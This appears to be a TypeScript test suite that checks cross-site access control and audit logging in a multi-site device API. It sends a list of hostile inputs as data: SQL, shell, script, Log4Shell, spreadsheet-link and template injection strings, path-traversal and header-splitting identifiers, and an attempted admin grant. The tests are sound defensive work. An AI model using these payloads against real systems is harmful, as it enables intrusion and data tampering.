/**
 * Every route, tried by people of one site and of none upon things of another site: nothing changes, nothing is told, no
 * try makes a fault, and each one that is denied is in the audit.
 */
import { afterAll, beforeAll, expect, inject, test } from 'vitest';
import type { AuditEntry } from '../../contracts/resources/audit.ts';
import { commandDeclarations } from '../../contracts/resources/command-declarations.ts';
import type { Command } from '../../contracts/resources/commands.ts';
import type { ExportJob } from '../../contracts/resources/exports.ts';
import { ROUTES } from '../../contracts/routes/index.ts';
import { createIdentity } from '../../device/identity.ts';
import { METER } from '../support/lab.ts';
import { Attempts } from './attempts.ts';
import { openPeopleLab, type PeopleLab } from './people.ts';

let lab: PeopleLab;
let admin: string;
const tokens: Record<string, string> = {};
const things: Record<string, string> = {};
const attempts = new Attempts();
const WHO = ['nobody', 'pretender', 'operator-1', 'engineer-1', 'analysis'] as const;
const FROM = new Date(Date.now() - 3_600_000).toISOString();
const TYPE = { ...METER, commands: commandDeclarations.parse({ zero: {}, burn: { approval: true } }) };

beforeAll(async () => {
  lab = await openPeopleLab(inject('assembly'));
  admin = await lab.personToken('admin');
  await lab.createType(TYPE);
  await lab.register('here', 'lab-1');
  await lab.register('there', 'lab-2');
  for (const who of WHO)
    tokens[who] = who === 'analysis' ? await lab.token(who) : (await lab.signIn(who)).access_token;
  const post = (body: unknown) => ({ method: 'POST', body: JSON.stringify(body) });
  const command = await lab.json<Command>('/v1/devices/there/commands', post({ command: 'burn' }));
  const job = await lab.json<ExportJob>('/v1/exports', post({ devices: ['there'], from: FROM }));
  Object.assign(things, { command: command.id, export: job.id, csr: (await createIdentity('new')).csr });
});
afterAll(async () => {
  await lab?.[Symbol.asyncDispose]();
});

/** What a change of each route could be, if it were allowed. */
const bodyOf = (name: string): unknown => {
  const reason = 'because I can';
  const bodies: Readonly<Record<string, unknown>> = {
    createType: { ...TYPE, id: 'other' },
    replaceType: { name: 'Other', channels: METER.channels },
    registerDevice: { id: 'new', site: 'lab-2', type: 'meter', csr: things['csr'] },
    updateDevice: { name: 'mine now' },
    createCommand: { command: 'zero', reason },
    takeLease: { seconds: 60, reason },
    createExport: { devices: ['there'], from: FROM },
    addPerson: { email: 'evil@example.org', username: 'evil', grants: [{ role: 'Admin' }] },
    replaceGrants: { grants: [{ role: 'Admin' }], reason },
  };
  return bodies[name] ?? { reason };
};

/** Values of the variables of a path, by what the path is about: things of another site. */
const pathOf = (path: string, values: Readonly<Record<string, string>>): string =>
  path.replaceAll(/\{(\w+)\}/g, (_, name: string) => {
    const [, , kind = ''] = path.split('/');
    if (kind === 'commands') return values['command'] ?? things['command'] ?? '';
    if (kind === 'exports') return values['export'] ?? things['export'] ?? '';
    if (kind === 'people') return values['person'] ?? 'admin';
    if (kind === 'types') return 'meter';
    if (name === 'site' || kind === 'sites') return 'lab-2';
    if (name === 'date') return '2026-03-01';
    if (name === 'sequence') return '49545115243490985018280067714973144582180062593244200961';
    return values['device'] ?? 'there';
  });

/** Parameters without which a list or a range is no question at all. */
const queryOf = (path: string): string => {
  if (path.endsWith('/series') && !path.includes('{')) return `?devices=there&from=${FROM}`;
  if (/\/(series|completeness|sessions)$/.test(path)) return `?from=${FROM}`;
  if (path.endsWith('/snapshot')) return '?devices=there';
  return /\/v1\/(devices|commands|quarantine|audit)$/.test(path) ? '?site=lab-2' : '';
};

const PROTECTED = Object.entries(ROUTES).filter(([, { permission }]) => permission !== 'open');

const attempt = async (who: string, name: string, values: Readonly<Record<string, string>> = {}) => {
  const { method: lower, path: pattern } = ROUTES[name as keyof typeof ROUTES];
  const method = lower.toUpperCase();
  const path = `${pathOf(pattern, values)}${method === 'GET' ? queryOf(pattern) : ''}`;
  const body = method === 'GET' ? undefined : bodyOf(name);
  const response = await lab.call(path, {
    method,
    token: tokens[who] ?? '',
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    headers: { ...(method === 'GET' ? {} : { 'if-match': '"2"' }) },
  });
  attempts.take(who, method, path, body, response);
  return { response, method, path, text: await response.text() };
};

/** What the program of all sites may do anyway: it reads, and is tried with changes alone. */
const isItsRight = (who: string, method: string): boolean => who === 'analysis' && method === 'get';

test.each(
  WHO.flatMap((who) =>
    PROTECTED.filter(([, { method }]) => !isItsRight(who, method)).map(([name]) => [who, name] as const),
  ),
)('%s gets nothing of another site by %s', async (who, name) => {
  const { response, method, text } = await attempt(who, name);
  if (response.ok) {
    // What belongs to everybody, or a list that holds nothing of the other site.
    expect(method, text).toBe('GET');
    expect(text).not.toMatch(/lab-2|"there"/);
  } else expect([400, 403, 404, 409, 415, 428]).toContain(response.status);
});

/** Identifiers that somebody could guess, or that mean something else on the way to where they are looked up. */
const GUESSES = [
  'there%00',
  'THERE',
  'there%2F..%2Fhere',
  '..%2fthere',
  'here%23there',
  "there'--",
  '%7B%22%24ne%22%3A1%7D',
  'DEVICE%23there',
  'there%E2%80%8B',
  '%2a',
  '__proto__',
  'there%0d%0aX-Evil:%201',
];
/** In turn, so that the audit has an entry for each: of more than ten a minute it keeps the count. */
const IN_TURN = ['engineer-1', 'operator-1', 'nobody'] as const;
test.each(GUESSES)('the identifier %s opens nothing', async (device) => {
  const who = IN_TURN[GUESSES.indexOf(device) % IN_TURN.length] ?? '';
  for (const name of ['readDevice', 'readLatest', 'readPresence', 'createCommand', 'retireDevice']) {
    if (!(name in ROUTES)) continue;
    const { response, text } = await attempt(who, name, { device });
    expect([400, 403, 404]).toContain(response.status);
    expect(text).not.toContain('lab-2');
    expect(response.headers.get('x-evil')).toBeNull();
  }
});

/** Texts that mean something to a shell, a page, a table, a query, a spreadsheet or a topic. */
const INJECTIONS = [
  "'; DROP TABLE devices; --",
  '<script>alert(1)</script>',
  '$(reboot)',
  '=HYPERLINK("http://evil")',
  ['$', '{jndi:ldap://evil/a}'].join(''),
  '{{7*7}}',
  '\u202Egnp.exe',
  '../../../../etc/passwd',
  'lab/+/+/#',
  '\r\nSet-Cookie: a=b',
];
test.each(INJECTIONS)('the text %s stays a text wherever it may stand', async (text) => {
  const path = '/v1/devices/here';
  for (const body of [{ name: text }, { description: text }, { labels: { note: text } }]) {
    const etag = (await lab.call(path)).headers.get('etag') ?? '';
    const init = { method: 'PATCH', token: tokens['engineer-1'] ?? '', body: JSON.stringify(body) };
    const response = await lab.call(path, { ...init, headers: { 'if-match': etag } });
    attempts.take('engineer-1', 'PATCH', path, body, response);
    // To the letter, or not at all.
    if (response.ok) expect(await response.json()).toMatchObject(body);
    else expect(response.status).toBe(400);
    expect(response.headers.get('content-type')).toMatch(/json$/);
    expect(response.headers.get('set-cookie')).toBeNull();
  }
});

test('a key that was used says nothing for another body', async () => {
  const headers = { 'idempotency-key': 'the-same-key-1' };
  const give = async (command: string) => {
    const path = '/v1/devices/here/commands';
    const body = { command, reason: command };
    const init = { method: 'POST', body: JSON.stringify(body), headers, token: tokens['operator-1'] ?? '' };
    const response = await lab.call(path, init);
    attempts.take('operator-1', 'POST', path, body, response);
    return response.status;
  };
  expect([await give('zero'), await give('burn')]).toEqual([202, 409]);
});

test('there were at least 150 attempts, and each one that was denied is in the audit', async () => {
  expect(attempts.count).toBeGreaterThanOrEqual(150);
  expect(attempts.refused).toBeGreaterThanOrEqual(150);
  const entries: AuditEntry[] = [];
  for (const site of ['', '&site=lab-1', '&site=lab-2'])
    for (let cursor = ''; ; ) {
      const page = await lab.json<{ items: AuditEntry[]; next: string | null }>(
        `/v1/audit?limit=1000${site}${cursor}`,
        { token: admin },
      );
      entries.push(...page.items);
      if (page.next === null) break;
      cursor = `&cursor=${encodeURIComponent(page.next)}`;
    }
  expect(attempts.missingIn(entries)).toEqual([]);
});

test('and nothing has changed', async () => {
  expect(await lab.json('/v1/devices/there')).toMatchObject({ state: 'active', version: 2 });
  expect(await lab.json(`/v1/commands/${things['command']}`)).toMatchObject({ state: 'pending-approval' });
  expect((await lab.call('/v1/people/evil', { token: admin })).status).toBe(404);
  expect((await lab.call('/v1/types/other')).status).toBe(404);
  expect((await lab.call('/v1/devices/new')).status).toBe(404);
  expect(lab.gateway.iam.denials).toEqual([]);
});
